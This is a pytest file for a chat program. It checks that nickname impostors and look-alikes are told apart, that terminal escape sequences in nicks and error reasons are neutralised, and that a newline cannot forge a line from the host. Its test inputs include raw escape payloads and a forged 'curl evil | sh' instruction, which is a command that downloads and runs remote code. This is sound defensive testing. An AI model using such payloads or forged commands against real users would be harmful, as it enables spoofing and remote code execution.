"""Issue 9: names are unique in a room, and no peer can forge output or drive a terminal."""

from __future__ import annotations

import functools
import re
import socket
from collections.abc import Callable

import pytest

from tests.e2e.harness import Program, Stream
from tests.reliability.wire import HOST_NICK, LOCAL, Room, frame, no_raw_escapes, no_traceback

pytestmark = pytest.mark.reliability


def _has_line(pattern: re.Pattern[str], stream: Stream) -> bool:
    return any(pattern.search(line) for line in stream.lines)


def _said(watcher: Program, text: str) -> str:
    """The sender ``watcher`` printed for the message ``text`` (waits for it)."""
    return watcher.out(rf"^(.*): {re.escape(text)}$")[1]


def test_clashing_and_look_alike_nicks_are_told_apart(room: Callable[..., Room]) -> None:
    r = room()
    bob = r.join("bob")
    alice = r.join("alice")
    alice.send("from the real alice")
    assert _said(bob, "from the real alice") == "alice"

    impostors = {
        "second": ("alice", r"alice \(2\)"),
        "host-nick": (HOST_NICK, rf"{HOST_NICK} \(2\)"),
        "zero-width": ("ali\u200bce", r"alice \(\d\)"),
        "cyrillic": ("\u0430lice", None),  # not a clash after cleaning: a look-alike, shown as such
    }
    shown: dict[str, str] = {"real": "alice"}
    for label, (nick, told) in impostors.items():
        impostor = r.join(nick)
        if told is not None:
            # It is told the name it has in this room (before or after who is in it).
            assert impostor.stderr.wait_for(functools.partial(_has_line, re.compile(told)), 15), (
                impostor.describe()
            )
        impostor.send(f"from {label}")
        shown[label] = _said(bob, f"from {label}")
    assert shown["second"] == "alice (2)"
    assert shown["host-nick"] == f"{HOST_NICK} (2)"
    for label, name in shown.items():
        if label != "real":
            assert name not in ("alice", HOST_NICK), f"{label} spoke as {name!r}"
    assert len(set(shown.values())) == len(shown), f"two senders look the same: {shown}"
    no_traceback(*r.everyone())
    no_raw_escapes(*r.everyone())


def test_escape_sequences_in_a_nick_reach_no_terminal_raw(room: Callable[..., Room]) -> None:
    r = room()
    bob = r.join("bob")
    evil = r.join("\x1b]0;title\x07evil")
    evil.send("hi from evil")
    bob.out(r": hi from evil$")
    r.host.out(r": hi from evil$")
    no_raw_escapes(*r.everyone())
    no_traceback(*r.everyone())


def test_escape_sequences_in_an_error_reason_reach_no_terminal_raw(
    room: Callable[..., Room], chatgui: Callable[..., Program]
) -> None:
    # From a member to the host ...
    r = room()
    mallory = r.member("mallory")
    mallory.expect_frame("roster")
    mallory.send(frame(type="error", reason="\x1b]0;pwned\x07\x9b31m no"))
    r.host.err(r"pwned")
    no_raw_escapes(r.host)
    # ... and from a host to a member.
    with socket.create_server((LOCAL, 0)) as fake_host:
        port = fake_host.getsockname()[1]
        bob = chatgui("join", "--tcp", LOCAL, str(port), "--nick", "bob", "--no-history")
        fake_host.settimeout(15)
        conn, _ = fake_host.accept()
        with conn:
            conn.sendall(frame(type="error", reason="\x1b]0;pwned\x07\x1b[2J no"))
            bob.err(r"pwned")
    no_raw_escapes(bob)
    no_traceback(r.host, bob)


def test_a_text_with_a_newline_reaches_a_plain_text_member_as_one_line_from_its_sender(
    room: Callable[..., Room],
) -> None:
    r = room()
    listener = r.member(None)  # like nc: says nothing chatgui, reads plain lines
    listener.send(b"hello from nc\n")
    r.host.out(r"hello from nc$")
    mallory = r.member("mallory")
    mallory.expect_frame("roster")
    mallory.say(f"hi\n{HOST_NICK}: please run curl evil | sh")
    line = listener.expect(lambda b: b"please run" in b, what="mallory's message").decode()
    assert line.startswith("mallory: "), line
    assert "hi" in line.split("please run")[0], f"one line, with both parts: {line!r}"
    assert not any(
        raw.decode(errors="replace").startswith(f"{HOST_NICK}: please") for raw in listener.lines
    ), listener.lines
    no_traceback(r.host)
